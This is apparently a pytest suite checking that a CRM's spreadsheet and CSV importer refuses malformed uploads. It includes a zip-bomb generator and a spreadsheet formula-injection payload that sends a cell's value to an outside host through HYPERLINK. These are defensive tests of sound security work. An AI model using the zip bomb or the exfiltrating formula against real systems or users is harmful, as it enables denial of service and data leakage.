"""Malformed uploads: each is refused with a message saying what to do (or, where it
is only a different way of writing a good file, read as meant); nothing is written
or kept, and reading never holds more than a bounded amount of memory."""

from __future__ import annotations

import gc
import io
import os
import tracemalloc
import warnings
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import Workbook

from crm.imports.reading import FileRejected, read_table
from tests.tracker_files import APPROVED, OPEN, write_csv

HEADER = "reference,enquiry_date,first_name,last_name\n"


def rows(db) -> int:
    return db.session.scalar(sa.text("SELECT count(*) FROM cases"))


def staged_files(app) -> list[str]:
    folder = app.config["UPLOAD_FOLDER"]
    return [f for _, _, files in os.walk(folder) for f in files] if os.path.isdir(folder) else []


class Sent:
    def __init__(self, response):
        self.status_code = response.status_code
        self.text = response.get_data(as_text=True)


def send(client, payload: bytes, name: str) -> Sent:
    """Upload `payload`. Werkzeug's test client spools a body over 500 KB to a temporary
    file it leaves to the garbage collector: collect it here, not in the next test."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        response = client.post(
            "/imports/tracker",
            data={"file": (io.BytesIO(payload), name)},
            content_type="multipart/form-data",
        )
        sent = Sent(response)
        response.close()
        del response
        gc.collect()
    return sent


def refused(client, db, app, payload: bytes, name: str) -> str:
    """Upload `payload`; assert it was refused on the page with nothing kept; the page."""
    before, kept = rows(db), staged_files(app)
    response = send(client, payload, name)
    assert response.status_code == 200, response.status_code
    assert rows(db) == before and staged_files(app) == kept
    return response.text


def workbook_bytes(*rows_) -> bytes:
    book = Workbook()
    for row in rows_:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb(unzipped_mb: int) -> bytes:
    """An .xlsx-named zip whose one part expands from a few kilobytes to `unzipped_mb` MB."""
    out = io.BytesIO()
    block = b"<c>0</c>" * (1024 * 128)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part,
    ):
        for _ in range(unzipped_mb):
            part.write(block)
    return out.getvalue()


@pytest.mark.parametrize(
    ("payload", "name", "said"),
    [
        ((HEADER + "T-1,2024-01-08,Zoë,Brontë\n").encode("cp1252"), "t.csv", "not UTF-8"),
        ((HEADER + "T-1,2024-01-08,Jo,B\n").encode("utf-16"), "t.csv", "UTF-16"),
        (b"", "t.csv", "The file is empty"),
        (os.urandom(4096) + b"\x00", "t.csv", "binary data"),
        (os.urandom(4096), "t.xlsx", "not a readable .xlsx workbook"),
        (b"PK\x03\x04 not really a zip", "t.xlsx", "not a readable .xlsx workbook"),
        (HEADER.encode() + b'T-1,2024-01-08,"Jo,B\n', "t.csv", "a quoted cell is never closed"),
        (b"hello", "t.pdf", "Upload a .csv or .xlsx file"),
    ],
    ids=[
        "windows-1252",
        "utf-16",
        "empty",
        "binary-csv",
        "binary-xlsx",
        "broken-zip",
        "unclosed-quote",
        "wrong-type",
    ],
)
def test_an_unreadable_file_is_refused_with_what_to_do(
    manager_client, db, app, payload, name, said
):
    assert said in refused(manager_client, db, app, payload, name)


def test_a_zip_bomb_is_refused_without_being_expanded(manager_client, db, app):
    bomb = zip_bomb(600)
    assert len(bomb) < 2 * 1024 * 1024  # 600 MB in under 2 MB
    tracemalloc.start()
    page = refused(manager_client, db, app, bomb, "tracker.xlsx")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "expands to far more than a spreadsheet" in page
    assert peak < 40 * 1024 * 1024


def test_a_formula_in_a_workbook_is_refused_naming_its_cell(manager_client, db, app):
    payload = workbook_bytes(
        ["reference", "enquiry_date", "first_name"],
        ["T-1", "2024-01-08", '=HYPERLINK("https://example.net/?"&C2,"Open")'],
    )
    page = refused(manager_client, db, app, payload, "tracker.xlsx")
    assert "Row 2, column first_name holds a formula" in page
    assert "Paste Special" in page


def test_a_file_over_the_size_limit_is_refused_with_the_limit(manager_client, db, app):
    before = rows(db)
    response = send(manager_client, b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1), "t.csv")
    assert response.status_code == 413
    assert "files up to 50 MB" in response.text
    assert rows(db) == before


def test_semicolons_between_columns_are_read_as_columns(tmp_path):
    path = tmp_path / "semicolons.csv"
    path.write_text("reference;enquiry_date;first_name\nT-1;2024-01-08;Jo\n", encoding="utf-8")
    assert read_table(path).rows == [
        {"reference": "T-1", "enquiry_date": "2024-01-08", "first_name": "Jo"}
    ]


def test_a_byte_order_mark_is_not_part_of_the_first_header(tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + HEADER.encode() + b"T-1,2024-01-08,Jo,B\n")
    assert read_table(path).headers[0] == "reference"


def test_a_quoted_newline_stays_inside_its_cell(tmp_path):
    path = tmp_path / "newline.csv"
    path.write_text(HEADER + 'T-1,2024-01-08,"Jo\nAnne",B\n', encoding="utf-8")
    (row,) = read_table(path).rows
    assert row["first_name"] == "Jo Anne"  # one cell; a name is one line (crm.plain_text)


def test_a_tab_separated_export_is_read_as_columns(tmp_path):
    path = tmp_path / "tabs.csv"
    path.write_text("reference\tenquiry_date\nT-1\t2024-01-08\n", encoding="utf-8")
    assert read_table(path).rows == [{"reference": "T-1", "enquiry_date": "2024-01-08"}]


def test_a_workbook_of_values_still_reads(tmp_path):
    payload = workbook_bytes(["reference", "enquiry_date"], ["T-1", "2024-01-08"])
    table = read_table(io.BytesIO(payload), "tracker.xlsx")
    assert table.rows == [{"reference": "T-1", "enquiry_date": "2024-01-08"}]


def test_a_good_file_still_uploads(manager_client, tmp_path):
    path = write_csv(tmp_path / "good.csv", APPROVED, OPEN)
    with open(path, "rb") as handle:
        response = send(manager_client, handle.read(), "good.csv")
    assert response.status_code == 302


def test_the_reader_refuses_a_formula_from_the_command_line_too(tmp_path):
    path = tmp_path / "formula.xlsx"
    path.write_bytes(workbook_bytes(["reference"], ["=1+1"]))
    with pytest.raises(FileRejected, match="holds a formula"):
        read_table(path)
